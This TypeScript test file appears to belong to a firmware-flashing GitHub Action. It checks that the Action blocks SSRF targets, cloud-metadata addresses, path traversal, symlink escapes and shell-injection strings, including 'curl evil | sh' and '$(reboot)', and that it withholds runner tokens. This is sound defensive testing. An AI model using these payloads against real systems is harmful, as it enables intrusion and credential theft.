import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { commandWords } from "../../src/action/command-line.js";
import { runPowerCycle } from "../../src/action/power-cycle.js";
import { systemClock } from "../../src/base/clock.js";
import { partLocation } from "../../src/firmware/part-location.js";
import { objectionTo } from "../../src/firmware/redirect.js";
import type { LayoutBase } from "../../src/firmware/source.js";
import { writeShared } from "../../src/ports/shared-file.js";
import { openFirmwareBench } from "../support/firmware-bench.js";
import type { FirmwareBench } from "../support/firmware-bench.js";

let bench: FirmwareBench;
let outside: string;
beforeEach(() => {
  bench = openFirmwareBench();
  outside = join(bench.workspace, "..", "outside");
  mkdirSync(outside);
  writeFileSync(join(outside, "secret.bin"), "secret");
});
afterEach(() => bench.dispose());

const posixTest = process.platform === "win32" ? test.skip : test;

describe("what an address of another server may not lead to", () => {
  test.each([
    ["this machine", "http://127.0.0.1:8080/"],
    ["this machine by its name", "http://LOCALHOST/"],
    ["this machine by a name below", "http://router.localhost./"],
    ["this machine as a number", "http://2130706433/"],
    ["this machine as zero", "http://0/"],
    ["this machine in IPv6", "http://[::1]/"],
    ["this machine as IPv4 in IPv6", "http://[::ffff:127.0.0.1]/"],
    ["where clouds keep credentials", "http://169.254.169.254/latest/meta-data/"],
    ["the same in hex", "http://0xa9fea9fe/"],
    ["the same in octal", "http://0251.0376.0251.0376/"],
    ["the same as IPv4 in IPv6", "http://[::ffff:169.254.169.254]/"],
    ["the same by its name", "http://metadata.google.internal/"],
    ["the same in Amazon's IPv6", "http://[fd00:ec2::254]/"],
    ["the link of IPv6", "http://[fe80::1]/"],
    ["a file", "file:///etc/shadow"],
    ["a file of another host", "file://host/share/a"],
    ["a script", "javascript:alert(1)"],
  ])("%s", (_, target) => {
    expect(objectionTo(new URL("http://firmware.example/a"), new URL(target))).toMatch(/^to .*, which is /);
  });

  test("what is not encrypted, from what was", () => {
    expect(objectionTo(new URL("https://host/"), new URL("http://host/"))).toMatch(/not encrypted/);
  });

  test("a link-local address, from the workspace either", () => {
    expect(objectionTo("workspace", new URL("http://169.254.169.254/"))).toMatch(/link-local/);
  });
});

describe("where a layout's parts may not be", () => {
  const folder = { kind: "folder", path: "/work/build" } as const;
  const url = { kind: "url", url: "https://host/fw/manifest.json" } as const;
  const release = { kind: "release", prefix: "github-release:o/r@v1/" } as const;

  test.each<[string, LayoutBase, string]>([
    ["above its folder", folder, "../../etc/passwd"],
    ["above its folder by a detour", folder, "a/../../../etc/passwd"],
    ["at the root", folder, "/etc/passwd"],
    ["on a drive of Windows", folder, "C:/Windows/win.ini"],
    ["on a drive of Windows, relative to it", folder, "C:secret.bin"],
    ["behind backslashes", folder, "..\\..\\secret.bin"],
    ["on a server of Windows", folder, "\\\\host\\share\\a.bin"],
    ["on a server of Windows, with slashes", folder, "//host/share/a.bin"],
    ["in a second stream of a file", folder, "app.bin:hidden"],
    ["in a device of Windows", folder, "\\\\.\\PhysicalDrive0"],
    ["at a file URL", folder, "file:///etc/passwd"],
    ["behind a zero byte", folder, "app.bin\0.txt"],
    ["on disk, if it came from a server", url, "file:///etc/passwd"],
    ["on this machine, if it came from a server", url, "http://127.0.0.1/a.bin"],
    ["where clouds keep credentials", url, "https://169.254.169.254/a.bin"],
    ["where nothing is encrypted, if it came encrypted", url, "http://host/a.bin"],
    ["where nothing is encrypted, if it came from a release", release, "http://host/a.bin"],
    ["in another release", release, "../../other/repo@v1/a.bin"],
  ])("%s", async (_, base, path) => {
    const github = { apiUrl: "https://api.github.com" };
    const request = { location: "x", input: "firmware-url", workspace: "/work", github, purpose: "data" } as const;
    const location = partLocation({ name: "layout", base }, path, request);
    await expect(location).rejects.toMatchObject({ code: "firmware/layout-path" });
  });
});

describe("a link in the workspace", () => {
  const locations: [string, (name: string) => string][] = [
    ["by a relative path", (name) => name],
    ["by its whole path", (name) => join(bench.workspace, name)],
    ["by a file URL", (name) => pathToFileURL(join(bench.workspace, name)).href],
  ];
  test.each(locations)("does not lead out of it %s", async (_, locationOf) => {
    symlinkSync(outside, join(bench.workspace, "build"), "junction");
    const error = await bench.fail({ location: locationOf(join("build", "secret.bin")), purpose: "data" });
    expect(error.code).toBe("firmware/link");
    expect(error.message).toContain("secret.bin, outside of the workspace");
  });

  test("does not lead a layout out of its folder", async () => {
    symlinkSync(outside, join(bench.workspace, "parts"), "junction");
    bench.put("flash_args", "0x0 parts/secret.bin");
    expect((await bench.failSet("flash_args")).code).toBe("firmware/layout-path");
  });

  test("leads within it, and what the user names outside is read", async () => {
    bench.put("build/app.bin", "inside");
    symlinkSync(join(bench.workspace, "build"), join(bench.workspace, "latest"), "junction");
    const inside = await bench.resolve({ location: "latest/app.bin", purpose: "data" });
    const named = await bench.resolve({ location: join(outside, "secret.bin"), purpose: "data" });
    expect([inside, named].map(({ bytes }) => Buffer.from(bytes).toString())).toEqual(["inside", "secret"]);
  });
});

posixTest("a link in the folder that all users share is not written through", () => {
  const note = join(bench.workspace, "board.owner");
  symlinkSync(join(outside, "secret.bin"), note);
  expect(() => writeShared(note, "{}")).toThrow(/ELOOP/);
  expect(readFileSync(join(outside, "secret.bin"), "utf8")).toBe("secret");
});

describe("the command that switches the power", () => {
  test.each([
    "uhubctl; curl evil | sh",
    "uhubctl && reboot",
    "uhubctl & reboot",
    "uhubctl | tee /etc/passwd",
    "uhubctl > /etc/passwd",
    "uhubctl < /etc/shadow",
    "uhubctl $(reboot)",
    "uhubctl `reboot`",
    "uhubctl $INPUT_TOKEN",
    "uhubctl {1,2}",
    "uhubctl\nreboot",
  ])("is refused where a shell would do more than it says: %j", (text) => {
    expect(commandWords(text)).toBeUndefined();
  });

  const deps = { clock: systemClock, signal: new AbortController().signal };

  test("is given its words as they are", async () => {
    const code = "console.error(process.argv[1]); process.exitCode = 1";
    const told = await runPowerCycle([process.execPath, "-e", code, "; $(reboot) %PATH%"], deps);
    expect(told).toMatch(/: ; \$\(reboot\) %PATH%$/);
  });

  test.each([
    ["the step's inputs", "INPUT_TOKEN"],
    ["what the step left for its end", "STATE_kept-boards"],
    ["the runner's token for caches and artifacts", "ACTIONS_RUNTIME_TOKEN"],
    ["the right to ask for an identity", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"],
    ["the file of the step's outputs", "GITHUB_OUTPUT"],
    ["the file of later steps' variables", "GITHUB_ENV"],
    ["the file of later steps' paths", "GITHUB_PATH"],
    ["the file of the step's state", "GITHUB_STATE"],
    ["the job's summary", "GITHUB_STEP_SUMMARY"],
  ])("is not given %s", async (_, name) => {
    const saved = process.env[name];
    process.env[name] = "hunter22";
    const code = `console.error(String(process.env[${JSON.stringify(name)}])); process.exitCode = 1`;
    const told = await runPowerCycle([process.execPath, "-e", code], deps);
    if (saved === undefined) Reflect.deleteProperty(process.env, name);
    else process.env[name] = saved;
    expect(told).toMatch(/: undefined$/);
  });

  test("is given what the workflow sets for it", async () => {
    process.env.RELAY_HOST = "relay";
    const code = "console.error(process.env.RELAY_HOST, String(process.env.PATH !== undefined)); process.exitCode = 1";
    const told = await runPowerCycle([process.execPath, "-e", code], deps);
    delete process.env.RELAY_HOST;
    expect(told).toMatch(/: relay true$/);
  });
});
